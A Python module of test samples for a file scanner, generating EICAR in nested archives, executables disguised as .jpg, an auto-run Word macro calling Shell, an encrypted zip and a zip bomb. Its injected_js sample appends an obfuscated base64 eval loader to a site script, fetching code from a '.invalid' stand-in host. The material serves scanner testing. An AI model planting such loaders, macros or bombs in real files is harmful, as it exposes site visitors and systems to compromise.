"""The training camp's prank files, generated as bytes: harmless samples that the bundled rules catch.

No real malware ever: the EICAR test string is the industry's agreed harmless test file, the executables are
bare headers that do nothing, the macro only shows a message box, the scripts talk to `.invalid` hosts.
Used by the tests, the `demo` command and the pipeline's end-to-end runs.
"""

from __future__ import annotations

import base64
import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

from bucketguard.scanning.result import Reason, Verdict

# What only some samples need (tar, gzip, the Office files' builders, the zip cipher's table) is imported or
# made by them: a scanner checks a new ruleset on a few samples at its cold start.

# Assembled from two halves so this source file is not itself flagged by antivirus scanners.
_EICAR_HEAD = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$"
_EICAR_TAIL = b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def eicar() -> bytes:
    """The 68-byte EICAR antivirus test file."""
    return _EICAR_HEAD + _EICAR_TAIL


def _zip(members: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A zip with fixed member dates (deterministic bytes)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=compression) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 7, 1, 9, 0, 0))
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def eicar_nested_zip() -> bytes:
    """EICAR two zips deep: `homework.zip!docs/inner.zip!eicar.com`."""
    inner = _zip({"eicar.com": eicar(), "readme.txt": b"nothing to see here\n"})
    return _zip({"docs/inner.zip": inner, "docs/notes.txt": b"camp notes\n"})


def eicar_tar_gz() -> bytes:
    """EICAR inside a gzip-compressed tar."""
    import gzip
    import tarfile

    buffer = io.BytesIO()
    # mtime=0: the gzip header would otherwise carry the current time and the sample would change
    with (
        gzip.GzipFile(fileobj=buffer, mode="wb", mtime=0) as gz,
        tarfile.open(fileobj=gz, mode="w") as archive,
    ):
        for name, data in (("songs/lyrics.txt", b"row row row your boat\n"), ("songs/eicar.txt", eicar())):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_719_824_400
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


_JQUERY_LIKE = (
    b"/*! camp-site helpers v3.7.1 | MIT license */\n"
    b"(function (global) {\n"
    b"  'use strict';\n"
    b"  function $(selector) { return document.querySelectorAll(selector); }\n"
    b"  $.ready = function (fn) { document.addEventListener('DOMContentLoaded', fn); };\n"
    b"  global.$ = $;\n"
    b"})(window);\n"
)


def clean_js() -> bytes:
    """The camp site's script as it should be."""
    return _JQUERY_LIKE


def injected_js() -> bytes:
    """The camp site's script with an obfuscated loader appended, as strangers did to open buckets' `.js`."""
    payload = (
        "var s=document.createElement('script');s.src='https://cdn-stats.invalid/collect.js';"
        "document.head.appendChild(s);"
    ) * 4
    blob = base64.b64encode(payload.encode()).decode()
    appended = (
        "\n;(function(){var _0x1a=['" + blob + "'];"
        "eval(atob(_0x1a[0]));"
        "document.write('<script src=\"https://cdn-stats.invalid/x.js\"></' + 'script>');})();\n"
    )
    return _JQUERY_LIKE + appended.encode()


def elf_header() -> bytes:
    """A minimal 64-bit x86-64 ELF executable header (no code: it does nothing)."""
    ident = b"\x7fELF" + bytes([2, 1, 1, 0]) + bytes(8)
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH",
        2,  # e_type: ET_EXEC
        0x3E,  # e_machine: x86-64
        1,  # e_version
        0x400078,  # e_entry
        64,  # e_phoff
        0,  # e_shoff
        0,  # e_flags
        64,  # e_ehsize
        56,  # e_phentsize
        1,  # e_phnum
        64,  # e_shentsize
        0,  # e_shnum
        0,  # e_shstrndx
    )
    program_header = struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x80, 0x80, 0x1000)
    return header + program_header + b"\xc3" * 8  # ret instructions as padding


def pe_header() -> bytes:
    """A minimal PE (Windows executable) header: MZ stub, PE signature, COFF and optional header magic."""
    dos = bytearray(b"MZ" + bytes(0x3A) + struct.pack("<I", 0x80))
    dos += b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x8664, 0, 0, 0, 0, 0xF0, 0x22)
    optional = struct.pack("<H", 0x20B) + bytes(0xF0 - 2)
    return bytes(dos[:0x80]) + coff + optional


def elf_as_jpg() -> bytes:
    """An ELF executable uploaded as `camp-photo.jpg`."""
    return elf_header()


def pe_as_jpg() -> bytes:
    """A PE executable uploaded as `badge.jpg`."""
    return pe_header()


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
    b"</Types>"
)


def macro_docm() -> bytes:
    """A Word document whose macro runs on opening (AutoOpen / Document_Open) and shows a message box."""
    from bucketguard.demo.office_files import compound_file, vba_project

    macro = (
        "Sub AutoOpen()\r\n  Document_Open\r\nEnd Sub\r\n"
        'Sub Document_Open()\r\n  MsgBox "You have been pranked!"\r\n'
        '  Shell "cmd.exe /c echo pranked"\r\nEnd Sub'
    )
    document = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>Camp timetable</w:t></w:r></w:p></w:body></w:document>"
    )
    # A real VBA project (MS-OVBA, compressed): the engine finds the macro only by decompressing it.
    return _zip(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "word/document.xml": document,
            "word/vbaProject.bin": compound_file(vba_project({"NewMacros": macro})),
        }
    )


@functools.cache
def _crc_table() -> list[int]:
    table = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (0xEDB88320 ^ (c >> 1)) if c & 1 else (c >> 1)
        table.append(c)
    return table


class _ZipCrypto:
    """Traditional PKWARE zip encryption (what `zip -e` writes); Python's zipfile can only decrypt it."""

    def __init__(self, password: bytes) -> None:
        self.keys = [0x12345678, 0x23456789, 0x34567890]
        for byte in password:
            self._update(byte)

    def _crc(self, crc: int, byte: int) -> int:
        return _crc_table()[(crc ^ byte) & 0xFF] ^ (crc >> 8)

    def _update(self, byte: int) -> None:
        k0, k1, k2 = self.keys
        k0 = self._crc(k0, byte)
        k1 = ((k1 + (k0 & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        k2 = self._crc(k2, k1 >> 24)
        self.keys = [k0, k1, k2]

    def encrypt(self, data: bytes) -> bytes:
        out = bytearray()
        for byte in data:
            temp = (self.keys[2] | 2) & 0xFFFF
            out.append(byte ^ (((temp * (temp ^ 1)) >> 8) & 0xFF))
            self._update(byte)
        return bytes(out)


def encrypted_zip(
    password: bytes = b"camp", name: str = "secret/eicar.com", data: bytes | None = None
) -> bytes:
    """A password-protected zip (ZipCrypto) hiding EICAR: nobody can look inside without the password."""
    plain = eicar() if data is None else data
    crc = zlib.crc32(plain)
    # Fixed header bytes keep the sample reproducible; the last byte is the check byte zip readers verify.
    header = bytes(range(11)) + bytes([crc >> 24])
    cipher = _ZipCrypto(password).encrypt(header + plain)
    encoded_name = name.encode()
    flags, method, dostime, dosdate = 0x1, 0, 0x4800, 0x58E1
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, flags, method, dostime, dosdate, crc, len(cipher), len(plain),
        len(encoded_name), 0,
    )  # fmt: skip
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, method, dostime, dosdate, crc, len(cipher),
        len(plain), len(encoded_name), 0, 0, 0, 0, 0, 0,
    )  # fmt: skip
    local_record = local + encoded_name + cipher
    central_record = central + encoded_name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central_record), len(local_record), 0)
    return local_record + central_record + end


def zip_bomb(expanded_bytes: int = 64 << 20) -> bytes:
    """A zip whose one member inflates a thousandfold (zeros): the classic decompression bomb, kept small."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = bytes(1 << 20)
    parts = []
    crc = 0
    remaining = expanded_bytes
    while remaining > 0:
        piece = chunk[: min(remaining, len(chunk))]
        parts.append(compressor.compress(piece))
        crc = zlib.crc32(piece, crc)
        remaining -= len(piece)
    parts.append(compressor.flush())
    deflated = b"".join(parts)
    encoded_name = b"free-games.txt"
    dostime, dosdate = 0x4800, 0x58E1
    local = struct.pack(
        "<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, dostime, dosdate, crc, len(deflated), expanded_bytes,
        len(encoded_name), 0,
    )  # fmt: skip
    central = struct.pack(
        "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, dostime, dosdate, crc, len(deflated),
        expanded_bytes, len(encoded_name), 0, 0, 0, 0, 0, 0,
    )  # fmt: skip
    local_record = local + encoded_name + deflated
    central_record = central + encoded_name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central_record), len(local_record), 0)
    return local_record + central_record + end


def clean_pdf() -> bytes:
    """A one-page PDF with the camp's timetable: no JavaScript, no actions."""
    content = b"BT /F1 18 Tf 72 720 Td (Camp timetable: archery at 10, lunch at 12) Tj ET"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += str(number).encode() + b" 0 obj\n" + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 " + str(len(objects) + 1).encode() + b"\n0000000000 65535 f \n"
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += b"trailer\n<< /Size " + str(len(objects) + 1).encode() + b" /Root 1 0 R >>\n"
    out += b"startxref\n" + str(xref).encode() + b"\n%%EOF\n"
    return bytes(out)


def clean_png(width: int = 32, height: int = 32) -> bytes:
    """A small PNG image (a green and blue gradient): a real image, nothing else."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(
        b"\x00" + b"".join(bytes([0, (x * 8) & 0xFF, (y * 8) & 0xFF]) for x in range(width))
        for y in range(height)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def clean_zip() -> bytes:
    """A zip of ordinary teaching material."""
    return _zip(
        {"week1/timetable.pdf": clean_pdf(), "week1/logo.png": clean_png(), "site/app.js": clean_js()}
    )


@dataclass(frozen=True)
class Sample:
    """One file a child (or a counsellor) uploads, with what a correct scanner says about it."""

    key: str  # the file name / S3 key it is uploaded under; its extension matters to the rules
    description: str
    make: Callable[[], bytes]
    expected: Verdict
    expected_reason: Reason | None = None

    @property
    def data(self) -> bytes:
        return self.make()


PRANKS: tuple[Sample, ...] = (
    Sample("homework.zip", "EICAR test file two zips deep", eicar_nested_zip, Verdict.MALICIOUS),
    Sample("songs.tar.gz", "EICAR inside a gzip-compressed tar", eicar_tar_gz, Verdict.MALICIOUS),
    Sample(
        "site/js/helpers.js", "site script with an obfuscated loader appended", injected_js, Verdict.MALICIOUS
    ),
    Sample("photos/camp-photo.jpg", "an ELF executable named .jpg", elf_as_jpg, Verdict.MALICIOUS),
    Sample("photos/badge.jpg", "a Windows PE executable named .jpg", pe_as_jpg, Verdict.MALICIOUS),
    Sample("timetable.docm", "Word document with an auto-run macro", macro_docm, Verdict.MALICIOUS),
    Sample("secret.zip", "password-protected zip", encrypted_zip, Verdict.UNSCANNABLE, Reason.ENCRYPTED),
    Sample(
        "free-games.zip",
        "zip bomb (64 MiB of zeros in 64 KiB)",
        zip_bomb,
        Verdict.UNSCANNABLE,
        Reason.RATIO_EXCEEDED,
    ),
)

CLEAN_FILES: tuple[Sample, ...] = (
    Sample("week1/timetable.pdf", "a plain PDF", clean_pdf, Verdict.CLEAN),
    Sample("week1/logo.png", "a PNG image", clean_png, Verdict.CLEAN),
    Sample("site/js/app.js", "the site's own script", clean_js, Verdict.CLEAN),
    Sample("week1/material.zip", "a zip of teaching material", clean_zip, Verdict.CLEAN),
)


def all_samples() -> tuple[Sample, ...]:
    """Pranks first, then the clean files, in a stable order."""
    return PRANKS + CLEAN_FILES
